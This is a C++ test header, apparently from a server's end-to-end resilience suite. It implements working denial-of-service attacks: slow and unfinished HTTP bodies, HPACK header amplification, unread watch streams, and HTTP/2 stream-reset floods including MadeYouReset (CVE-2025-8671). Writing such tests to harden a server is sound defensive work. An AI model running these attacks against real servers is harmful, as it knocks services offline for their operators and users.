#pragma once

#include <poll.h>

#include <memory>
#include <thread>
#include <vector>

#include "attack.h"
#include "testkit/http/http2_client.h"
#include "tests/e2e/token_client.h"

// Attacks by requests that begin and do not end.
namespace proa::e2e {

// Reads what the server sent, without waiting for more; false if it has disconnected.
inline bool read_now(testkit::Http2Client& client) {
  pollfd readable{client.raw().descriptor(), POLLIN, 0};
  for (int i = 0; i < 100 && poll(&readable, 1, 0) > 0; ++i) {
    if (!client.read()) return false;
  }
  return true;
}

// Three hundred bodies that lack one byte, on connections that PING keeps alive.
class UnfinishedBodies final : public Attack {
 public:
  explicit UnfinishedBodies(int port) : port_(port) {}
  void step() override {
    std::erase_if(clients_, [](const auto& client) {
      client->ping();
      return !read_now(*client);
    });
    if (clients_.size() < 3) begin();
    std::this_thread::sleep_for(10ms);  // the rate of the pings
  }

 private:
  void begin() {
    http::Headers headers = kHostile;
    headers.add("content-length", "2900000");
    clients_.push_back(std::make_unique<testkit::Http2Client>(port_));
    for (int i = 0; i < 100; ++i) {
      clients_.back()->send(clients_.back()->ask("POST", kMaps, false, headers), body_);
    }
  }

  const int port_;
  const Bytes body_{std::string(2'899'999, ' ')};
  std::vector<std::unique_ptr<testkit::Http2Client>> clients_;
};

// Bodies on HTTP/1 that come a byte at a time.
class SlowBodies final : public Attack {
 public:
  explicit SlowBodies(int port) : port_(port) {}
  void step() override {
    std::erase_if(clients_, [](const auto& client) { return !client->send(" "); });
    for (int i = 0; i < 10 && clients_.size() < 100; ++i) {
      clients_.push_back(
          std::make_unique<testkit::RawClient>(port_, testkit::RawClient::Options{.tls = true}));
      clients_.back()->send(std::string("POST ") + kMaps +
                            " HTTP/1.1\r\nhost: a\r\nauthorization: Bearer hostile\r\n"
                            "content-type: application/json\r\ncontent-length: 2900000\r\n\r\n" +
                            std::string(100'000, ' '));
    }
    std::this_thread::sleep_for(50ms);  // the rate of the bytes
  }

 private:
  const int port_;
  std::vector<std::unique_ptr<testkit::RawClient>> clients_;
};

// Six thousand requests without a token, whose answers nobody reads. HPACK makes 44 kB of a head
// from a few bytes of a connection.
class UnreadHeads final : public Attack {
 public:
  explicit UnreadHeads(int port) : port_(port) {}
  void step() override {
    std::erase_if(clients_, [](const auto& client) { return !read_now(*client); });
    if (clients_.size() < 60) begin();
    std::this_thread::sleep_for(10ms);  // the rate of the connections
  }

 private:
  void begin() {
    http::Http2Limits closed = testkit::Http2Client::generous();
    closed.stream_window = 0;
    http::Headers headers;
    for (int i = 0; i < 15; ++i) headers.add("x", std::string(2'900, 'x'));
    clients_.push_back(std::make_unique<testkit::Http2Client>(port_, true, closed));
    for (int i = 0; i < 100; ++i) clients_.back()->ask("GET", "/readyz", true, headers);
    clients_.back()->flush();
  }

  const int port_;
  std::vector<std::unique_ptr<testkit::Http2Client>> clients_;
};

// Two thousand watches of changes of 900 kB, which nobody reads.
class UnreadWatches final : public Attack {
 public:
  UnreadWatches(const std::string& data_dir, int port)
      : port_(port), writer_(data_dir, port, kHostileToken) {}
  ~UnreadWatches() override {
    for (int i = 0; i < kObjects; ++i) writer_.ask("DELETE", kMaps + ("/" + name(i)));
  }

  void step() override {
    std::erase_if(clients_, [](const auto& client) { return !read_now(*client); });
    while (clients_.size() < 20) begin();
    // The same few objects: what the store keeps of them is not the question here.
    const std::string text =
        large_map(name(number_ % kObjects), 900'000, static_cast<char>('a' + number_ % 26));
    int code = writer_.ask("POST", kMaps, text);
    if (code == 409) code = writer_.ask("PUT", kMaps + ("/" + name(number_ % kObjects)), text);
    if (code == 200 || code == 201) ++written_;
    ++number_;
    std::this_thread::sleep_for(1s);  // the rate of changes: the store keeps their history
  }
  int written() const { return written_; }

 private:
  static constexpr int kObjects = 4;
  static std::string name(int number) { return "large-" + std::to_string(number); }

  void begin() {
    http::Http2Limits closed;
    closed.stream_window = 1000;
    http::Headers as_table = kHostile;
    as_table.add("accept", "application/json;as=Table;v=v1;g=meta.k8s.io");
    clients_.push_back(std::make_unique<testkit::Http2Client>(port_, true, closed));
    testkit::Http2Client& client = *clients_.back();
    for (int i = 0; i < 100; ++i) {
      const std::string target = std::string(kMaps) + "?watch=true&includeObject=Object";
      client.hold(client.ask("GET", target, true, i % 2 == 0 ? as_table : kHostile));
    }
  }

  const int port_;
  TokenClient writer_;
  std::vector<std::unique_ptr<testkit::Http2Client>> clients_;
  int number_ = 0;
  int written_ = 0;
};

// Streams that are reset as soon as they are open: by the client, or by the server, which the
// client provokes (MadeYouReset, CVE-2025-8671).
class Resets final : public Attack {
 public:
  enum class By : uint8_t { kClient, kServer };
  Resets(int port, By by) : port_(port), by_(by) {}

  void step() override {
    namespace frames = testkit::frames;
    // A creation whose body is longer than announced: its work could go on after the reset.
    const std::string fields =
        frames::field(":method", "POST") + frames::field(":scheme", "https") +
        frames::field(":authority", "a") + frames::field(":path", kMaps) +
        frames::field("authorization", "Bearer hostile") +
        frames::field("content-type", "application/json") + frames::field("content-length", "1");
    testkit::RawClient client(port_, {.tls = true, .protocol = "h2"});
    client.send(std::string(frames::kPreface) + frames::frame(frames::kSettings, 0, 0));
    for (uint32_t id = 1; id < 40'000; id += 2) {
      const std::string end = by_ == By::kServer
                                  ? frames::frame(frames::kData, 0, id, "{}")
                                  : frames::frame(frames::kReset, 0, id, frames::number(8));
      if (!client.send(frames::frame(frames::kHeaders, frames::kEndHeaders, id, fields) + end)) {
        break;
      }
      ++count_;
    }
  }
  int count() const { return count_; }

 private:
  const int port_;
  const By by_;
  int count_ = 0;
};

}  // namespace proa::e2e
